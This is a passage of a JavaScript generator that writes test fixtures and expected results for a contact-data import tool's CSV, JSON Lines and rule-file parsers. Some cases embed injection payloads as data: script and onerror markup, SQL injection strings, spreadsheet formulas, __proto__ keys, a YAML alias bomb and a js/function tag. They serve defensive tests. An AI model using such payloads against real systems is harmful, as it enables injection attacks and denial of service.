  csv(name, rows(`1,Ann,Lee,ann@example.com,${quoted}`), ok(1, {}, { values: { 2: { notes: value } }, output: { 1: { notes: exported } }, cli: name === 'formula-equals', description: `a notes cell ${JSON.stringify(value)}: imported as it is, exported ${value === exported ? 'unchanged' : 'with a leading apostrophe'}` }));
}
csv('formula-guard-off', rows('1,Ann,Lee,ann@example.com,=1+1'), ok(1, {}, { target: { formula_guard: false }, output: { 1: { notes: '=1+1' } }, description: 'formula_guard: false exports the cell as it is' }));
csv('formula-first-name', rows('1,=1+1,Lee,ann@example.com,'), ok(1, {}, { output: { 1: { first_name: "'=1+1" } }, description: 'a formula in a name field is guarded after normalize too' }));
csv('formula-cr-first', rows('1,Ann,Lee,ann@example.com,"\r=1+1"'), ok(1, {}, { output: { 1: { notes: "'=1+1" } }, description: 'a CR before a formula: normalize trims it, the guard still escapes the formula' }));

// ------------------------------------------------------------------ CSV: realistic messy data (all rows load)
const messy = {
  'latin1-names-declared': { bytes: iconv.encode(rows('1,François,Müller,fm@example.fr,', '2,Søren,Åberg,sa@example.dk,', '3,Íñigo,Peña,ip@example.es,'), 'latin1'), count: 3, source: { encoding: 'latin1' }, values: { 3: { first_name: 'Søren' } } },
  'emoji-everywhere': { text: rows('1,Ann 👩‍💻,Lee 🇬🇧,ann@example.com,❤️🔥 family: 👨‍👩‍👧‍👦'), values: { 2: { notes: '❤️🔥 family: 👨‍👩‍👧‍👦' } } },
  'cjk-names': { text: rows('1,伟,王,wei@example.cn,', '2,さくら,佐藤,sakura@example.jp,', '3,지훈,박,jihoon@example.kr,'), values: { 4: { first_name: '지훈' } } },
  'rtl-arabic': { text: rows('1,محمد,العلي,m@example.sa,ملاحظة'), values: { 2: { first_name: 'محمد' } } },
  'rtl-hebrew-mixed': { text: rows('1,דוד,כהן,david@example.il,"Tel Aviv, תל אביב 61000"'), values: { 2: { notes: 'Tel Aviv, תל אביב 61000' } } },
  'rtl-override-chars': { text: rows('1,Ann\u202eeciR,Lee,ann@example.com,\u200f\u200e'), values: { 2: { first_name: 'Ann\u202eeciR' } } },
  'combining-accents': { text: rows('1,Zoe\u0308,A\u030angstro\u0308m,zoe@example.com,'), values: { 2: { first_name: 'Zoe\u0308' } } },
  'zero-width': { text: rows('1,An\u200bn,Le\u200de,ann\u200c@example.com,\ufeffx'), values: { 2: { first_name: 'An\u200bn' } } },
  'nbsp-and-wide-spaces': { text: rows('1,\u00a0Ann\u00a0,\u3000Lee,ann@example.com,\u2003'), values: { 2: { first_name: '\u00a0Ann\u00a0' } } },
  'fullwidth-digits': { text: rows('１,Ann,Lee,ann@example.com,電話１３８'), values: { 2: { notes: '電話１３８' } } },
  'very-long-name': { text: rows(`1,${'Maximilian'.repeat(500)},Lee,max@example.com,`), values: { 2: { first_name: 'Maximilian'.repeat(500) } } },
  'very-long-notes': { text: rows(`1,Ann,Lee,ann@example.com,"${'lorem ipsum, dolor; sit\n'.repeat(2000)}"`), count: 1, values: { 2: { notes: 'lorem ipsum, dolor; sit\n'.repeat(2000) } } },
  'whitespace-only-cells': { text: rows('1,   ,\t,ann@example.com,  \t  '), values: { 2: { first_name: '', last_name: '', notes: '' } } },
  'tabs-inside-cells': { text: rows('1,Ann\tMarie,Lee,ann@example.com,a\tb'), values: { 2: { first_name: 'Ann\tMarie' } } },
  'leading-trailing-spaces': { text: rows('1,  Ann  ,  Lee,  ann@example.com  ,'), values: { 2: { first_name: '  Ann  ' } } },
  'html-in-values': { text: rows('1,<script>alert(1)</script>,<b>Lee</b>,ann@example.com,"<img src=x onerror=alert(1)>"'), values: { 2: { first_name: '<script>alert(1)</script>' } } },
  'sql-in-values': { text: rows("1,Robert'); DROP TABLE stw_records;--,Tables,bobby@example.com,\"' OR '1'='1\""), values: { 2: { first_name: "Robert'); DROP TABLE stw_records;--" } } },
  'json-in-values': { text: rows('1,Ann,Lee,ann@example.com,"{""a"": [1, 2, {""b"": null}]}"'), values: { 2: { notes: '{"a": [1, 2, {"b": null}]}' } } },
  'backslashes': { text: rows('1,Ann\\,Lee\\\\,ann@example.com,C:\\Users\\ann\\n'), values: { 2: { first_name: 'Ann\\' } } },
  'escaped-quotes-backslash-style': { text: rows('1,"Ann \\"A\\"",Lee,ann@example.com,'), rejects: { 2: 'INVALID_CLOSING_QUOTE' } },
  'urls-and-emails': { text: rows('1,Ann,Lee,"Ann Lee <ann@example.com>",https://example.com/?a=1&b=2#x'), values: { 2: { email: 'Ann Lee <ann@example.com>' } } },
  'upper-case-emails': { text: rows('1,ANN,LEE,ANN.LEE+crm@GMAIL.COM,'), values: { 2: { email: 'ANN.LEE+crm@GMAIL.COM' } } },
  'messy-phones': { text: 'id,First Name,Phone\n1,Ann,(415) 555-2671 ext. 12\n2,Bo,+44 20 7946 0958\n3,Cy,0049-30-123456\n4,Di,not a phone\n5,Ed,555\n', count: 5 },
  'dates-every-format': { text: 'id,First Name,Birth Date\n1,Ann,1990-02-03\n2,Bo,03/02/1990\n3,Cy,3 Feb 1990\n4,Di,1990年2月3日\n5,Ed,32874\n6,Fay,31/31/1990\n7,Gus,\n', count: 7 },
  'postcodes-leading-zeros': { text: 'id,First Name,Postcode,Country\n1,Ann,02134,US\n2,Bo,2134,US\n3,Cy,SW1A 1AA,UK\n4,Di,10115,DE\n5,Ed,ABC,FR\n', count: 5, values: { 2: { postcode: '02134' } } },
  'countries-many-spellings': { text: 'id,First Name,Country\n1,Ann,U.S.A.\n2,Bo,Deutschland\n3,Cy,中国\n4,Di,Atlantis\n5,Ed,\n', count: 5 },
  'quoted-numbers': { text: 'id,First Name,Notes\n"001",Ann,"1,234.56"\n"002",Bo,"-0"\n', count: 2, values: { 2: { notes: '1,234.56' } } },
  'ids-leading-zeros': { text: 'id,First Name\n001,Ann\n01,Bo\n1,Cy\n', count: 3 },
  'ids-unicode': { text: 'id,First Name\nÄ-1,Ann\n编号-2,Bo\n🙂,Cy\n', count: 3 },
  'placeholders': { text: rows('1,N/A,unknown,test@test.com,-', '2,NULL,null,none,TBD'), count: 2, values: { 2: { first_name: 'N/A' } } },
  'mojibake-utf8': { text: rows('1,JÃ¼rgen,GroÃŸ,jg@example.de,donâ€™t'), values: { 2: { first_name: 'JÃ¼rgen' } } },
  'turkish-letters': { text: rows('1,İsmail,Işık,ismail@example.tr,ğüşöç'), values: { 2: { first_name: 'İsmail' } } },
  'german-eszett': { text: rows('1,Jürgen,STRAßE,jg@example.de,ẞ'), values: { 2: { last_name: 'STRAßE' } } },
  'math-alphanumerics': { text: rows('1,𝐀𝐧𝐧,𝕃𝕖𝕖,ann@example.com,'), values: { 2: { first_name: '𝐀𝐧𝐧' } } },
  'private-use-and-noncharacters': { text: rows('1,Ann\ue000,Lee\ufdd0,ann@example.com,\uffff'), values: { 2: { first_name: 'Ann\ue000' } } },
  'semicolon-list-in-cell': { text: rows('1,Ann,Lee,"ann@example.com; ann2@example.com",'), values: { 2: { email: 'ann@example.com; ann2@example.com' } } },
  'excel-scientific-ids': { text: 'id,First Name,Phone\n1.23457E+11,Ann,4.15555E+09\n', count: 1 },
  'many-rows': { text: rows(...Array.from({ length: 2500 }, (_, i) => `${i + 1},First${i},Last${i},u${i}@example.com,n${i}`)), count: 2500 },
  'many-rows-some-bad': { text: rows(...Array.from({ length: 600 }, (_, i) => (i % 100 === 7 ? `${i + 1},Bad` : `${i + 1},First${i},Last${i},u${i}@example.com,`))), count: 600, rejects: Object.fromEntries(Array.from({ length: 6 }, (_, k) => [k * 100 + 9, 'WRONG_CELL_COUNT'])) },
  'duplicate-people': { text: rows('1,Ann,Lee,ann@example.com,', '2,ann,lee,ANN@example.com,', '3,Anne,Lee,ann@example.com,'), count: 3 },
  'all-cells-empty': { text: rows('1,,,,', '2,,,,'), count: 2 },
  'crlf-semicolon-bom-quoted': { bytes: Buffer.concat([BOM8, Buffer.from('"id";"First Name";"Notes"\r\n"1";"Ann";"a;b"\r\n"2";"Bo";"c\r\nd"\r\n')]), count: 2, values: { 2: { notes: 'a;b' }, 3: { notes: 'c\r\nd' } } },
  'ideographic-comma-not-delimiter': { text: 'id,First Name,Notes\n1,Ann,東京、大阪\n', count: 1, values: { 2: { notes: '東京、大阪' } } },
  'cell-of-delimiters': { text: rows('1,Ann,Lee,ann@example.com,",,,,,"'), values: { 2: { notes: ',,,,,' } } },
  'line-separator-chars': { text: rows('1,Ann\u2028Lee,Lee\u2029,ann@example.com,\u0085'), values: { 2: { first_name: 'Ann\u2028Lee' } } },
  'vertical-tab-form-feed': { text: rows('1,Ann\u000b,Lee\u000c,ann@example.com,'), values: { 2: { first_name: 'Ann\u000b' } } },
  'header-with-bom-in-middle': { text: 'id,\ufeffFirst Name,Email\n1,Ann,ann@example.com\n', count: 1 },
  'long-id': { text: `id,First Name\n${'9'.repeat(5000)},Ann\n`, count: 1 },
  'pipe-in-comma-file': { text: rows('1,Ann|Marie,Lee|Smith,ann@example.com,a|b|c'), values: { 2: { first_name: 'Ann|Marie' } } },
  'numbers-as-names': { text: rows('1,0,1e5,ann@example.com,NaN', '2,-0,Infinity,bo@example.com,true'), count: 2, values: { 2: { first_name: '0', last_name: '1e5' } } },
  'prototype-headers': { text: 'id,__proto__,constructor,toString,hasOwnProperty\n1,a,b,c,d\n', count: 1 },
};
for (const [name, spec] of Object.entries(messy)) {
  const count = spec.count ?? (spec.text ?? '').split('\n').length - 2;
  csv(`messy-${name}`, spec.bytes ?? spec.text, ok(spec.count ?? count, spec.rejects ?? {}, { ...(spec.source ? { source: spec.source } : {}), ...(spec.values ? { values: spec.values } : {}), description: `realistic messy data: ${name.replace(/-/g, ' ')}` }));
}

// ------------------------------------------------------------------ JSON Lines
const J = (...objects) => `${objects.map((o) => (typeof o === 'string' ? o : JSON.stringify(o))).join('\n')}\n`;
const person = (id, extra = {}) => ({ id: String(id), first_name: `First${id}`, last_name: `Last${id}`, email: `u${id}@example.com`, ...extra });
jsonl('valid', J(person(1), person(2), person(3)), ok(3, {}, { values: { 1: { first_name: 'First1' } }, cli: true, description: 'three objects' }));
jsonl('truncated-last-line', `${J(person(1), person(2))}{"id":"3","first_name":"Cy","la`, ok(3, { 3: 'INVALID_JSON' }, { cli: true, description: 'the last line cut off mid-object' }));
jsonl('truncated-last-line-newline', `${J(person(1), person(2))}{"id":"3","first_name":"Cy"\n`, ok(3, { 3: 'INVALID_JSON' }, { description: 'an object missing its closing brace' }));
jsonl('non-object-lines', J(person(1), '[1,2,3]', '42', '"text"', 'null', 'true', person(7)), ok(7, { 2: 'NOT_AN_OBJECT', 3: 'NOT_AN_OBJECT', 4: 'NOT_AN_OBJECT', 5: 'NOT_AN_OBJECT', 6: 'NOT_AN_OBJECT' }, { description: 'arrays, numbers, strings, null and booleans are not records' }));
jsonl('garbage-lines', J(person(1), 'not json at all', '{id: 2}', "{'id': '3'}", '{"id":"4",}', person(6)), ok(6, { 2: 'INVALID_JSON', 3: 'INVALID_JSON', 4: 'INVALID_JSON', 5: 'INVALID_JSON' }, { description: 'JavaScript-ish lines that are not JSON' }));
const nest = (depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
jsonl('deeply-nested-100', J(person(1, { notes: JSON.parse(nest(100)) })), ok(1, {}, { description: 'a value nested 100 levels deep is kept as JSON text' }));
jsonl('deeply-nested-5000', `{"id":"1","notes":${nest(5000)}}\n${JSON.stringify(person(2))}\n`, ok(2, { 1: 'TOO_DEEP' }, { description: 'a value nested 5,000 levels deep: rejected as too deep, never a stack overflow' }));
jsonl('blank-lines', `\n${JSON.stringify(person(1))}\n\n   \n${JSON.stringify(person(2))}\n\n`, ok(2, {}, { values: { 5: { first_name: 'First2' } }, description: 'blank lines are skipped, line numbers stay true' }));
jsonl('crlf', J(person(1), person(2)).replace(/\n/g, '\r\n'), ok(2, {}, { values: { 2: { email: 'u2@example.com' } }, description: 'CRLF line ends' }));
jsonl('bom-utf8', Buffer.concat([BOM8, Buffer.from(J(person(1)))]), ok(1, {}, { values: { 1: { first_name: 'First1' } }, description: 'a UTF-8 BOM' }));
jsonl('utf16le-bom', utf16(J(person(1, { first_name: 'Zoë' })), 'le'), ok(1, {}, { values: { 1: { first_name: 'Zoë' } }, description: 'UTF-16 LE with a BOM' }));
jsonl('nul-raw', Buffer.from(J(person(1), `{"id":"2","first_name":"B\u0000o"}`)), ok(2, { 2: 'NUL_BYTE' }, { description: 'a raw NUL byte in a line' }));
jsonl('nul-escaped', J(person(1), '{"id":"2","first_name":"B\\u0000o"}'), ok(2, { 2: 'NUL_BYTE' }, { description: 'a NUL written as \\u0000' }));
jsonl('invalid-utf8', withBytes('utf-8', `${JSON.stringify(person(1))}\n{"id":"2","first_name":"B`, [0xff], 'o"}\n'), ok(2, { 2: 'INVALID_ENCODING' }, { description: 'an invalid UTF-8 byte' }));
jsonl('duplicate-keys', J(person(1), '{"id":"2","first_name":"A","first_name":"B"}'), ok(2, {}, { values: { 2: { first_name: 'B' } }, description: 'a key written twice: the last wins, as in JSON.parse' }));
jsonl('odd-keys', J({ id: '1', '': 'empty', __proto__x: 1 }, '{"id":"2","__proto__":{"polluted":true},"constructor":"c"}', { id: '3', '🙂': 'smile', 'a.b': 'dot' }), ok(3, {}, { description: 'empty, __proto__, constructor and emoji keys are columns like any other' }));
jsonl('types', J({ id: '1', first_name: 42, last_name: true, email: null, notes: [1, 'a', { b: 2 }] }, { id: 2, first_name: 1.5e300, last_name: false }), ok(2, {}, { values: { 1: { first_name: '42', last_name: 'true', email: '', notes: '[1,"a",{"b":2}]' }, 2: { first_name: '1.5e+300' } }, description: 'numbers, booleans, null and arrays as cells' }));
jsonl('big-integer-ids', '{"id":12345678901234567890,"first_name":"Ann"}\n{"id":9007199254740993,"first_name":"Bo"}\n', ok(2, {}, { values: { 1: { first_name: 'Ann' } }, output: { '12345678901234567890': { first_name: 'Ann' }, '9007199254740993': { first_name: 'Bo' } }, description: 'integer ids beyond 2^53 keep every digit (a double would round them)' }));
jsonl('new-keys-later', J({ id: '1', first_name: 'Ann' }, { id: '2', email: 'bo@example.com' }, { id: '3', phone: '+14155552671', custom: 'x' }), ok(3, {}, { values: { 2: { email: 'bo@example.com' } }, description: 'keys that first appear on later lines' }));
jsonl('empty-object', J({}, person(2)), ok(2, { 1: 'MISSING_ID' }, { description: 'an empty object has no id: rejected as such, counted' }));
jsonl('zero-bytes', '', ok(0, {}, { description: 'an empty file' }));
jsonl('only-blank-lines', '\n\n  \n', ok(0, {}, { description: 'blank lines only' }));
jsonl('whole-file-one-array', `[${JSON.stringify(person(1))},${JSON.stringify(person(2))}]\n`, ok(1, { 1: 'NOT_AN_OBJECT' }, { description: 'a JSON array file given as JSON Lines' }));
jsonl('pretty-printed-json', `${JSON.stringify(person(1), null, 2)}\n`, ok(6, { 1: 'INVALID_JSON', 2: 'INVALID_JSON', 3: 'INVALID_JSON', 4: 'INVALID_JSON', 5: 'INVALID_JSON', 6: 'INVALID_JSON' }, { description: 'pretty-printed JSON: every line is rejected, each counted' }));
jsonl('unicode-escapes', J(person(1), '{"id":"2","first_name":"\\u00e9\\ud83d\\ude00","notes":"a\\u2028b\\u2029c"}'), ok(2, {}, { values: { 2: { first_name: 'é😀', notes: 'a\u2028b\u2029c' } }, description: 'unicode escapes, surrogate pairs, line separators' }));
jsonl('lone-surrogate-escape', J(person(1), '{"id":"2","first_name":"\\ud800x"}'), ok(2, {}, { values: { 2: { first_name: '\ud800x' } }, description: 'a lone surrogate escape parses; it is kept as the text JSON gives' }));
jsonl('html-and-formulas', J({ id: '1', first_name: '<script>alert(1)</script>', notes: '=1+1' }), ok(1, {}, { output: { 1: { first_name: "<script>alert(1)</script>", notes: "'=1+1" } }, description: 'markup and a formula in JSON values' }));
jsonl('cr-only', J(person(1), person(2)).replace(/\n/g, '\r'), ok(1, { 1: 'INVALID_JSON' }, { description: 'CR-only line ends are not JSON Lines: the whole file is one line, rejected, nothing silently loaded' }));
jsonl('numbers-precision', '{"id":"1","notes":0.1}\n{"id":"2","notes":1e400}\n{"id":"3","notes":-0}\n{"id":"4","notes":1.50}\n', ok(4, {}, { values: { 1: { notes: '0.1' }, 2: { notes: '1e400' }, 3: { notes: '-0' }, 4: { notes: '1.50' } }, description: 'numbers are kept as written: 1.50, -0, an exponent no double can hold' }));

// ------------------------------------------------------------------ Rule files
const job = (body) => `job: corpus\n${body}`;
const issue = (...patterns) => ({ exit: 2, error: { code: 'RULES_INVALID', message: patterns } });
rules('valid-minimal', 'job: minimal\nsource: { csv: contacts.csv }\n', { exit: 0, cli: true, description: 'the smallest valid rule file' });
rules('valid-extends-contacts', job('extends: contacts\n'), { exit: 0, description: 'extends the shipped contacts rules' });
rules('valid-json', '{"job": "json-rules", "source": {"csv": "c.csv"}, "fields": {"email": {"from": "E-mail", "required": true}}}\n', { exit: 0, ext: 'json', description: 'a JSON rule file' });
rules('valid-crlf-bom', `\ufeffjob: crlf\r\nsource:\r\n  csv: c.csv\r\n  delimiter: ";"\r\n`, { exit: 0, description: 'a rule file with a BOM and CRLF' });
rules('valid-env-default', job('source:\n  csv: "${CORPUS_MISSING_DIR:-data}/c.csv"\n  max_rejects: ${CORPUS_MISSING_MAX:-5}\n'), { exit: 0, description: '${VAR:-default} when VAR is not set' });
rules('valid-env-set', job('source:\n  csv: c.csv\n  max_rejects: ${CORPUS_MAXR}\n'), { exit: 0, env: { CORPUS_MAXR: '7' }, description: 'an unquoted ${VAR} read as a number' });
rules('valid-anchors', job('fields:\n  first_name: &n { normalize: [trim, text] }\n  last_name: *n\n  city: *n\n'), { exit: 0, description: 'a few honest YAML anchors and aliases' });
rules('yaml-merge-keys', job('fields:\n  email: &e { from: Mail }\n  phone: { <<: *e, from: Tel }\n'), issue('unknown key "<<"'));
rules('wrong-type-job', 'job: 123\n', issue('job: must be a string, got 123'));
rules('wrong-type-fields-list', job('fields: [email, phone]\n'), issue('fields: must be a mapping, got a list'));
rules('wrong-type-source-scalar', job('source: contacts.csv\n'), issue('source: must be a mapping, got "contacts.csv"'));
rules('wrong-type-required', job('fields: { email: { required: "yes" } }\n'), issue('fields.email.required: must be true or false, got "yes"'));
rules('wrong-type-max-rejects', job('source: { csv: c.csv, max_rejects: lots }\n'), issue('source.max_rejects', 'lots'));
rules('wrong-type-thresholds', job('extends: contacts\ndedupe:\n  thresholds: { match: high, review: 0.5 }\n'), issue('dedupe.thresholds.match', 'must be a number'));
rules('wrong-type-batch-size', job('target: { csv: o.csv, batch_size: -5 }\n'), issue('target.batch_size'));
rules('wrong-type-normalize-scalar', job('fields: { email: { normalize: email } }\n'), issue('fields.email.normalize: must be a list'));
rules('wrong-enum-delimiter', job('source: { csv: c.csv, delimiter: "::" }\n'), issue('source.delimiter: must be one of'));
rules('wrong-enum-mode', job('target: { csv: o.csv, mode: upsertt }\n'), issue('target.mode', 'did you mean "upsert"'));
rules('wrong-job-name', 'job: "my job!"\n', issue('job: must be letters, digits'));
rules('wrong-field-name', job('fields: { "First Name": { from: x } }\n'), issue('fields.First Name', 'lower_snake_case'));
rules('wrong-many-at-once', 'job: 5\nsource: { csv: c.csv, delimiter: "x", encodng: utf-8 }\nfields: { email: { required: maybe } }\ntarget: { mode: sideways }\n', issue('job: must be a string', 'source.delimiter', 'unknown key "encodng"; did you mean "encoding"', 'fields.email.required', 'target.mode'));
rules('unknown-key-top', job('soruce: { csv: c.csv }\n'), issue('unknown key "soruce"; did you mean "source"?'));
rules('unknown-key-fields', job('feilds: { email: E-mail }\n'), issue('did you mean "fields"?'));
rules('unknown-key-source', job('source: { csv: c.csv, delimeter: ";" }\n'), issue('source.delimeter: unknown key "delimeter"; did you mean "delimiter"?'));
rules('unknown-key-field', job('fields: { email: { from: E-mail, requird: true } }\n'), issue('did you mean "required"?'));
rules('unknown-key-target', job('target: { csv: o.csv, formula_gaurd: false }\n'), issue('did you mean "formula_guard"?'));
rules('unknown-key-normalizer-option', job('fields: { phone: { normalize: [{ phone: { default_contry: US } }] } }\n'), issue('did you mean "default_country"?'));
rules('unknown-key-dedupe', job('extends: contacts\ndedupe: { thresholds: { match: 0.9, reveiw: 0.5 } }\n'), issue('did you mean "review"?'));
rules('unknown-key-no-suggestion', job('zzz: 1\n'), issue('unknown key "zzz"'));
rules('unknown-normalizer', job('fields: { email: { normalize: [emial] } }\n'), issue('unknown normalizer "emial"; did you mean "email"?'));
rules('unknown-normalizer-with-options', job('fields: { phone: { normalize: [{ phon: { default_country: US } }] } }\n'), issue('unknown normalizer "phon"; did you mean "phone"?'));
rules('unknown-normalizer-far', job('fields: { email: { normalize: [frobnicate] } }\n'), issue('unknown normalizer "frobnicate"', 'known:'));
rules('unknown-comparator', job('extends: contacts\ndedupe:\n  compare:\n    email: { method: levenstein }\n'), issue('levenstein', 'did you mean "levenshtein"?'));
rules('unknown-comparator-name', job('extends: contacts\ndedupe:\n  compare:\n    email: exactt\n'), issue('exactt', 'did you mean "exact"'));
rules('unknown-check', job('audit:\n  fields:\n    email: { completness: ">= 90%" }\n'), issue('did you mean "completeness"?'));
rules('unknown-check-record', job('audit:\n  record: { completenes: ">= 50%" }\n'), issue('did you mean "completeness"?'));
rules('unknown-survivorship', job('extends: contacts\nmerge:\n  survivor: most_compleat\n'), issue('merge.survivor', 'most_compleat'));
rules('unknown-encoding', job('source: { csv: c.csv, encoding: latin-9x }\n'), issue('source.encoding: unknown encoding "latin-9x"'));
rules('bad-threshold-text', job('audit:\n  fields:\n    email: { completeness: "at least 90" }\n'), issue('audit.fields.email.completeness'));
rules('bad-regex', job('fields:\n  notes: { normalize: [{ regex: { pattern: "([a-z", replace: "" } }] }\n'), issue('fields.notes.normalize.0.regex'));
rules('circular-extends-self', job('extends: ./circular-extends-self.yaml\n'), issue('extends makes a cycle'));
rules('circular-extends-pair', job('extends: ./circular-extends-pair-b.yaml\n'), { ...issue('extends makes a cycle'), extra_files: { 'circular-extends-pair-b.yaml': 'job: b\nextends: ./circular-extends-pair.yaml\n' } });
rules('circular-extends-three', job('extends: ./circular-3-b.yaml\n'), { ...issue('extends makes a cycle'), extra_files: { 'circular-3-b.yaml': 'job: b\nextends: ./circular-3-c.yaml\n', 'circular-3-c.yaml': 'job: c\nextends: ./circular-extends-three.yaml\n' } });
rules('extends-missing', job('extends: ./nowhere.yaml\n'), issue('cannot find rule file "./nowhere.yaml"'));
rules('extends-unknown-shipped', job('extends: contact\n'), issue('cannot find rule file "contact"', '"contacts"'));
rules('extends-not-a-string', job('extends: [contacts]\n'), issue('extends: must be a string'));
rules('env-missing', job('source: { csv: "${CORPUS_UNSET_DIR}/c.csv" }\n'), issue('environment variable CORPUS_UNSET_DIR is not set'));
rules('env-missing-secret', job('target: { postgres: "${CORPUS_UNSET_DATABASE_URL}", table: t }\n'), issue('CORPUS_UNSET_DATABASE_URL is not set'));
rules('env-missing-several', job('source: { csv: "${CORPUS_A}/${CORPUS_B}.csv" }\ntarget: { csv: "${CORPUS_C}" }\n'), issue('CORPUS_A is not set', 'CORPUS_B is not set', 'CORPUS_C is not set'));
rules('env-secret-not-echoed', job('target: { postgres: "${CORPUS_DATABASE_URL}", table: t, mode: sideways }\n'), { ...issue('target.mode'), env: { CORPUS_DATABASE_URL: 'postgres://crm:hunter2-corpus@db.example/crm' }, secret: 'hunter2-corpus', description: 'a rule file with a secret from the environment and an error: the secret never shows' });
const bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
for (let i = 1; i < 10; i++) bomb.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
rules('yaml-alias-bomb', `${bomb.join('\n')}\njob: bomb\n`, { ...issue('aliases', 'resource'), cli: true, description: 'billion laughs: nine levels of nine aliases, refused in bounded memory' });
rules('yaml-alias-bomb-nested-maps', `x: &x { a: 1, b: 2 }\n${Array.from({ length: 12 }, (_, i) => `l${i}: &l${i} [${Array(6).fill(i === 0 ? '*x' : `*l${i - 1}`).join(', ')}]`).join('\n')}\njob: bomb\n`, { ...issue('aliases', 'resource'), description: 'an alias bomb of mappings' });
rules('yaml-alias-undefined', job('fields: { email: *nothere }\n'), issue('not valid YAML'));
rules('yaml-duplicate-keys', 'job: a\njob: b\n', issue('not valid YAML', 'unique'));
rules('yaml-tab-indent', 'job: t\nsource:\n\tcsv: c.csv\n', issue('not valid YAML'));
rules('yaml-unclosed-flow', job('source: { csv: c.csv\n'), issue('not valid YAML'));
rules('yaml-unknown-tag', job('description: !!js/function "function () { return 1 }"\n'), { exit: 0, description: 'an unknown tag runs nothing: the value stays a string' });
rules('yaml-binary-tag', job('description: !!binary aGVsbG8=\n'), issue('description'));
rules('yaml-deep-nesting', `job: deep\ndescription: ${'['.repeat(20000)}${']'.repeat(20000)}\n`, issue('not valid YAML'));
rules('yaml-multiple-documents', 'job: a\n---\njob: b\n', issue('not valid YAML'));
rules('empty-file', '', issue('an empty file'));
rules('only-comments', '# nothing here\n', issue('an empty file'));
rules('top-level-list', '- job: a\n', issue('got a list'));
rules('top-level-scalar', 'hello\n', issue('got string "hello"'));
rules('json-trailing-comma', '{"job": "x", }\n', { exit: 0, ext: 'json', description: 'a trailing comma: not JSON, but valid YAML (a YAML flow mapping), so accepted' });
rules('json-invalid', '{"job": "x" "source": 1}\n', { ...issue('not valid YAML or JSON'), ext: 'json' });
rules('binary-file', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0xff, 0xfe, 0]), issue('.'));
rules('utf16-rule-file', utf16('job: utf16\nsource: { csv: c.csv }\n', 'le'), { exit: 0, description: 'a rule file saved as UTF-16 by a Windows editor' });
rules('latin1-rule-file', iconv.encode('job: latin\nfields:\n  first_name: { from: [Prénom] }\n', 'latin1'), issue('not valid UTF-8'));
rules('source-two-connectors', job('source: { csv: a.csv, jsonl: b.jsonl }\n'), issue('source'));
rules('target-needs-table', job('target: { postgres: "postgres://u@h/db" }\n'), { exit: 0, description: 'a database target without a table defaults to the job name' });
rules('thresholds-out-of-order', job('extends: contacts\ndedupe: { thresholds: { match: 0.4, review: 0.9 } }\n'), issue('dedupe.thresholds'));
rules('many-problems', job(Array.from({ length: 50 }, (_, i) => `bad_key_${i}: 1`).join('\n') + '\n'), issue('bad_key_0', 'bad_key_49'));
rules('null-sections', job('source: null\nfields: null\n'), { exit: 0, description: 'sections set to null are left out' });
rules('map-file-missing', job('fields:\n  title: { normalize: [{ map: { file: nosuch.csv } }] }\n'), issue('the map file "nosuch.csv" does not exist'));

// ------------------------------------------------------------------ write
for (const group of ['csv', 'jsonl', 'rules']) {
  const dir = path.join(ROOT, group);
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
}
const names = new Set();
for (const c of cases) {
  const key = `${c.group}/${c.name}`;
  if (names.has(key)) throw new Error(`duplicate case ${key}`);
  names.add(key);
  const dir = path.join(ROOT, c.group);
  writeFileSync(path.join(dir, `${c.name}.${c.ext}`), c.content);
  const { extra_files: extraFiles, ...expect } = c.expect;
  for (const [file, text] of Object.entries(extraFiles ?? {})) writeFileSync(path.join(dir, file), text);
  writeFileSync(path.join(dir, `${c.name}.expect.json`), `${JSON.stringify({ file: `${c.name}.${c.ext}`, ...expect }, null, 2)}\n`);
}
console.log(`${cases.length} cases written: ${['csv', 'jsonl', 'rules'].map((g) => `${g} ${cases.filter((c) => c.group === g).length}`).join(', ')}`);
